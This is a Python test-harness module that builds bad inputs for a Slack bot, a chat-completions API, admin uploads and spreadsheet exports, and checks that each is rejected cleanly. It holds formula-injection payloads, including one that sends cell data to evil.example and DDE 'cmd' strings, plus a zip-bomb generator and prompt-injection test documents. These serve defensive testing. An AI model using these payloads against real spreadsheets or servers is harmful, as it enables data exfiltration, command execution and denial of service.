"""The bad inputs of bench/faults.py: requests and files that must each get a clear error, never a 500.

Slack events that are malformed, oversized or not signed by Slack; /v1 requests that are malformed,
unauthenticated or too large (console/conversations/api.py); files uploaded through the admin that
are prompt-injection documents, zip bombs or otherwise hostile; spreadsheet formulas in exported
training pairs. Each input says what must happen to it; `judge_http`, `judge_document` and
`judge_cells` say whether it did. Building the inputs needs no server and no database.
"""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from bench.slack_events import event_body, mention_event, sign, signed_headers
from tests.ml.injection_strings import INJECTIONS

MB = 1024 * 1024
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1, "Click")',
    "==1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@dataclass
class BadInput:
    """One bad input, what must happen to it, and (once run) what did."""

    kind: str  # "slack", "v1", "upload", "export"
    name: str
    expect: str  # in words, for the report
    path: str = ""
    body: bytes = field(default=b"", repr=False)
    headers: dict[str, str] = field(default_factory=dict)
    method: str = "POST"
    statuses: frozenset[int] = frozenset()  # the statuses that are right for an HTTP input
    # An oversized body: the server may answer and close before reading it all, and the client
    # then sees the connection reset instead of the status (the web log is checked for 5xx).
    may_reset: bool = False
    outcome: str = ""  # what happened, in words
    ok: bool = False

    def result(self, outcome: str, ok: bool) -> None:
        self.outcome, self.ok = outcome, ok


def judge_http(item: BadInput, status: int | None, body: bytes) -> None:
    """Right when the status is one of the input's, and a /v1 error says what is wrong in JSON."""
    if status is None:
        item.result("connection closed before the whole body was sent", item.may_reset)
        return
    ok = status in item.statuses
    if ok and item.kind == "v1":
        try:
            message = json.loads(body)["error"]["message"]
        except (ValueError, KeyError, TypeError):
            message = ""
        ok = bool(message)
    item.result(str(status), ok)


# --- Slack -----------------------------------------------------------------------------------------


def _mention(**changes: Any) -> dict:
    event = mention_event("C0BAD", "How do I get VPN access?", "1700000000.000100")
    return {key: value for key, value in (event | changes).items() if value is not None}


MALFORMED_BODIES = {
    "not JSON": b"{",
    "a JSON list": b"[]",
    "JSON null": b"null",
    "a JSON string": b'"app_mention"',
    "a JSON number": b"42",
    "an event callback without an event": b'{"type": "event_callback", "event_id": "EvBAD1"}',
    "an event that is null": b'{"type": "event_callback", "event": null}',
    "an event that is a string": b'{"type": "event_callback", "event": "app_mention"}',
    "an event that is a list": b'{"type": "event_callback", "event": [1, 2]}',
    "an event that is a number": b'{"type": "event_callback", "event": 7}',
}
MALFORMED_EVENTS = {
    "a mention without channel": _mention(channel=None),
    "a mention without ts": _mention(ts=None),
    "a mention without channel and ts": _mention(channel=None, ts=None),
    "a mention with an empty channel": _mention(channel=""),
    "a mention whose channel is a number": _mention(channel=5),
    "a mention whose channel is a list": _mention(channel=["C0BAD"]),
    "a mention whose channel is an object": _mention(channel={"id": "C0BAD"}),
    "a mention whose ts is a number": _mention(ts=1700000000.1),
    "a mention whose ts is a list": _mention(ts=["1.2"]),
    "a mention whose text is a number": _mention(text=42),
    "a mention whose text is a list": _mention(text=["hi"]),
    "a mention whose text is an object": _mention(text={"t": "hi"}),
    "a mention whose thread_ts is an object": _mention(thread_ts={"ts": "1"}),
    "a mention whose thread_ts is a number": _mention(thread_ts=3),
    "a mention whose user is a number": _mention(user=9),
    "a mention whose team is a list": _mention(team=["T0"]),
    "a DM without channel": {
        "type": "message",
        "channel_type": "im",
        "user": "U0BAD",
        "text": "Hi?",
        "ts": "1.2",
    },
    "a DM without ts": {
        "type": "message",
        "channel_type": "im",
        "user": "U0BAD",
        "text": "Hi?",
        "channel": "D0BAD",
    },
    "a DM whose text is a list": {
        "type": "message",
        "channel_type": "im",
        "user": "U0BAD",
        "text": ["Hi?"],
        "channel": "D0BAD",
        "ts": "1.2",
    },
    "a reaction whose item is a string": {
        "type": "reaction_added",
        "user": "U0BAD",
        "reaction": "+1",
        "item": "x",
    },
    "a reaction whose item is a list": {
        "type": "reaction_added",
        "user": "U0BAD",
        "reaction": "+1",
        "item": [],
    },
    "a reaction without item": {"type": "reaction_added", "user": "U0BAD", "reaction": "+1"},
    "a reaction whose name is a number": {
        "type": "reaction_added",
        "user": "U0BAD",
        "reaction": 1,
        "item": {},
    },
    "an event of an unknown type": {"type": "bench_unknown", "channel": "C0BAD", "ts": "1.2"},
    "an event without a type": {"channel": "C0BAD", "ts": "1.2"},
}
SIGNATURE_FAULTS: dict[str, Callable[[str, bytes], dict[str, str]]] = {
    "no signature": lambda secret, body: {"X-Slack-Request-Timestamp": str(int(time.time()))},
    "no timestamp": lambda secret, body: {"X-Slack-Signature": sign(secret, str(int(time.time())), body)},
    "signed with another secret": lambda secret, body: signed_headers("not-the-secret", body),
    "a v1 signature": lambda secret, body: {
        **signed_headers(secret, body),
        "X-Slack-Signature": "v1=" + signed_headers(secret, body)["X-Slack-Signature"][3:],
    },
    "a cut signature": lambda secret, body: {
        **signed_headers(secret, body),
        "X-Slack-Signature": signed_headers(secret, body)["X-Slack-Signature"][:20],
    },
    "stale (6 minutes old)": lambda secret, body: signed_headers(
        secret, body, timestamp=str(int(time.time()) - 360)
    ),
    "from the future (6 minutes ahead)": lambda secret, body: signed_headers(
        secret, body, timestamp=str(int(time.time()) + 360)
    ),
    "a timestamp that is a word": lambda secret, body: signed_headers(secret, body, timestamp="yesterday"),
    "a timestamp with decimals": lambda secret, body: signed_headers(
        secret, body, timestamp=f"{time.time():.3f}"
    ),
    "the signature of another body": lambda secret, body: signed_headers(secret, body + b" "),
}


IGNORED = "ignored (200; 404 for an unknown type), or 400 where bolt cannot read an id"


def slack_inputs(secret: str) -> list[BadInput]:
    """Bad Slack requests: none may take a question or get a 5xx."""
    inputs = []
    for name, body in MALFORMED_BODIES.items():
        inputs.append(_slack(f"signed, {name}", body, signed_headers(secret, body), {400}, "400"))
    for name, event in MALFORMED_EVENTS.items():
        body = event_body(event, f"EvBAD{len(inputs):04d}")
        inputs.append(_slack(f"signed, {name}", body, signed_headers(secret, body), {200, 400, 404}, IGNORED))
    for cut in (1, 10, 40, 80, 120):
        body = event_body(_mention(), "EvBADCUT")[:cut]
        inputs.append(
            _slack(f"signed, cut after {cut} bytes", body, signed_headers(secret, body), {400}, "400")
        )
    form = b"payload=%5B1%2C2%5D"
    inputs.append(
        _slack(
            "signed form whose payload is a list",
            form,
            signed_headers(secret, form, content_type="application/x-www-form-urlencoded"),
            {400},
            "400",
        )
    )
    bodies = {
        "a mention": event_body(_mention(), "EvBADSIG"),
        "not JSON": b"{",
        "not UTF-8": b"\xff\xfe{\x00}",
        "an event that is null": b'{"type": "event_callback", "event": null}',
        "a 1 MB mention": event_body(_mention(text="x" * MB), "EvBADBIG"),
    }
    for body_name, body in bodies.items():
        for fault, headers in SIGNATURE_FAULTS.items():
            sent = {"Content-Type": "application/json", **headers(secret, body)}
            inputs.append(_slack(f"{fault}, {body_name}", body, sent, {401}, "401"))
    huge = b'{"type": "event_callback", "event": {"text": "' + b"x" * (27 * MB) + b'"}}'
    inputs.append(_slack("signed, 27 MB body", huge, signed_headers(secret, huge), {400, 413}, "400 or 413"))
    inputs.append(
        _slack(
            "unsigned, 27 MB body",
            huge,
            {"Content-Type": "application/json"},
            {400, 401, 413},
            "401, 400 or 413",
        )
    )
    for item in inputs[-2:]:
        item.may_reset = True
    return inputs


def _slack(name: str, body: bytes, headers: dict[str, str], statuses: set[int], expect: str) -> BadInput:
    return BadInput("slack", name, expect, "/slack/events", body, headers, statuses=frozenset(statuses))


# --- /v1 ---------------------------------------------------------------------------------------------


def v1_inputs(
    key: str, *, question_max: int = 4000, history_max: int = 32000, body_max_kb: int = 256
) -> list[BadInput]:
    """Bad /v1 requests: each a 4xx whose JSON error says what is wrong, none answered."""
    auth = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
    ask = [{"role": "user", "content": "How do I get VPN access?"}]

    def post(name: str, payload: Any, status: int, headers: dict | None = None) -> BadInput:
        body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
        sent = auth if headers is None else headers
        return BadInput(
            "v1", name, str(status), "/v1/chat/completions", body, sent, statuses=frozenset({status})
        )

    inputs = [
        post("no Authorization header", {"messages": ask}, 401, {"Content-Type": "application/json"}),
        post("a Basic Authorization header", {"messages": ask}, 401, {"Authorization": "Basic YTpi"}),
        post("an empty bearer key", {"messages": ask}, 401, {"Authorization": "Bearer "}),
        post("an unknown key", {"messages": ask}, 401, {"Authorization": "Bearer ab-notakey12345678"}),
        post("a key without the prefix", {"messages": ask}, 401, {"Authorization": "Bearer sk-123"}),
        post("not JSON", b"{", 400),
        post("not UTF-8", b"\xff\xfe", 400),
        post("an empty body", b"", 400),
        post("a JSON list", [], 400),
        post("a JSON string", "hello", 400),
        post("JSON null", None, 400),
        post("no messages", {"model": "answerbot"}, 400),
        post("messages is an empty list", {"messages": []}, 400),
        post("messages is a string", {"messages": "hi"}, 400),
        post("messages is an object", {"messages": {"role": "user"}}, 400),
        post("a message without role", {"messages": [{"content": "hi"}]}, 400),
        post("a message with an unknown role", {"messages": [{"role": "wizard", "content": "hi"}]}, 400),
        post("a message that is a string", {"messages": ["hi"]}, 400),
        post("no user message", {"messages": [{"role": "assistant", "content": "hi"}]}, 400),
        post("an empty question", {"messages": [{"role": "user", "content": "   "}]}, 400),
        post("content that is a number", {"messages": [{"role": "user", "content": 5}]}, 400),
        post(
            "an image part",
            {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}]},
            400,
        ),
        post(
            "a text part without text", {"messages": [{"role": "user", "content": [{"type": "text"}]}]}, 400
        ),
        post(
            f"a question of {question_max + 1:,} characters",
            {"messages": [{"role": "user", "content": "q" * (question_max + 1)}]},
            400,
        ),
        post(
            f"history of {history_max + 1:,} characters",
            {"messages": [{"role": "assistant", "content": "h" * (history_max + 1)}, *ask]},
            400,
        ),
        post("an unknown model", {"model": "gpt-17", "messages": ask}, 404),
        post("a model that is a number", {"model": 3, "messages": ask}, 400),
        post("stream that is a string", {"messages": ask, "stream": "yes"}, 400),
        post("stream_options that is a string", {"messages": ask, "stream_options": "all"}, 400),
        post("user that is a number", {"messages": ask, "user": 7}, 400),
        post(
            f"a body of {body_max_kb + 44} KB",
            {"messages": [{"role": "user", "content": "x" * ((body_max_kb + 44) * 1024)}]},
            413,
        ),
        post("a body of 5 MB", {"messages": [{"role": "user", "content": "x" * (5 * MB)}]}, 413),
    ]
    for item in inputs[-2:]:
        item.may_reset = True
    get = BadInput("v1", "GET on chat completions", "405", "/v1/chat/completions", headers=auth, method="GET")
    get.statuses = frozenset({405})
    return [*inputs, get]


# --- uploads -----------------------------------------------------------------------------------------


@dataclass
class BadFile:
    """A file uploaded through the admin and what must become of its document."""

    name: str
    data: bytes = field(repr=False)
    expect: str  # "indexed" (and the prompt's fence intact), "failed", "indexed or failed"
    reason: str = ""  # a word the failure's reason must contain
    input: BadInput | None = None


def injection_document(number: int, injection: str) -> bytes:
    return (
        f"# Office notes {number}\n\nThe office opens at 9 and closes at 5.\n\n{injection}\n\n"
        f"The coffee machine is on floor {number % 7 + 1}.\n"
    ).encode()


def zip_bomb(*, unpacked_mb: int = 0, entries: int = 2) -> bytes:
    """A .docx-shaped zip with one part that unpacks to `unpacked_mb`, or `entries` tiny parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w") as part:
            for _ in range(unpacked_mb):
                part.write(b"\0" * MB)
        for number in range(entries - 2):
            archive.writestr(f"word/media/{number}.xml", "")
    return buffer.getvalue()


def upload_files(
    *, max_upload_mb: float = 25, max_unpacked_mb: float = 200, max_entries: int = 2000
) -> list[BadFile]:
    """Hostile or broken files, and one good one: each must end as its own document, alone."""
    files = [
        BadFile(f"bench-injection-{n:02d}.md", injection_document(n, text), "indexed")
        for n, text in enumerate(INJECTIONS)
    ]
    files += [
        BadFile("bench-good.md", b"# Parking\n\nVisitors park on level -2.\n", "indexed"),
        BadFile("bench-zip-bomb.docx", zip_bomb(unpacked_mb=int(max_unpacked_mb) + 56), "failed", "zip bomb"),
        BadFile("bench-many-parts.docx", zip_bomb(entries=max_entries + 500), "failed", "zip bomb"),
        BadFile("bench-not-a-zip.docx", b"This is not a Word file at all.", "failed"),
        BadFile("bench-not-a-pdf.pdf", b"%PDF-1.7\nnot really a pdf", "failed"),
        BadFile("bench-deep.html", ("<div>x " * 20_000 + "</div>" * 20_000).encode(), "failed", "deep"),
        BadFile("bench-empty.md", b"", "failed"),
        BadFile("bench-program.exe", b"MZ\x90\x00binary", "failed"),
        BadFile("bench-binary.txt", bytes(range(256)) * 64, "indexed or failed"),
        BadFile("bench-formulas.md", "\n".join(f"- {f}" for f in FORMULAS).encode(), "indexed"),
    ]
    oversized = BadFile(
        "bench-oversized.txt", b"a" * int((max_upload_mb + 1) * MB), "failed", f"{max_upload_mb:g} MB"
    )
    for file in [*files, oversized]:
        file.input = BadInput("upload", file.name, _expect_words(file))
    return [*files, oversized]


def _expect_words(file: BadFile) -> str:
    if file.expect == "indexed":
        return "indexed as data, prompt fence intact" if "injection" in file.name else "indexed"
    if file.expect == "failed":
        return "failed with a reason" + (f" ({file.reason})" if file.reason else "")
    return "indexed, or failed with a reason"


def judge_document(file: BadFile, status: str, error: str, fence_intact: bool | None) -> None:
    """Whether the document ended as the file must: failed with a (matching) reason, or indexed."""
    assert file.input is not None
    failed_well = status == "failed" and bool(error) and file.reason.lower() in error.lower()
    indexed_well = status == "indexed" and fence_intact is not False
    ok = {"indexed": indexed_well, "failed": failed_well, "indexed or failed": indexed_well or failed_well}
    outcome = status + (f": {error[:80]}" if error else "")
    if fence_intact is False:
        outcome += "; the prompt's fence was broken"
    file.input.result(outcome, ok[file.expect])


# --- exports -----------------------------------------------------------------------------------------


def formula_cells_csv(data: bytes) -> list[str]:
    """Cells of an exported CSV that a spreadsheet would run as formulas."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _number(cell)]


def _number(cell: str) -> bool:
    """A plain number ("-1", "2.5") is data to a spreadsheet, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells_xlsx(data: bytes) -> list[str]:
    """Cells of an exported workbook that are formulas (openpyxl's data type "f")."""
    import openpyxl  # type: ignore[import-untyped]

    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        cell.coordinate
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def export_inputs() -> list[BadInput]:
    """Each formula, once per export format; judged by `judge_cells`."""
    return [
        BadInput("export", f"{format_name} export of {formula!r}", "escaped, no formula cell")
        for format_name in ("CSV", "XLSX")
        for formula in FORMULAS
    ]


def judge_cells(inputs: list[BadInput], format_name: str, formulas_found: list[str], exported: bool) -> None:
    for item in inputs:
        if item.name.startswith(format_name):
            if not exported:
                item.result("export failed", False)
            else:
                item.result(f"{len(formulas_found)} formula cells in the file", not formulas_found)
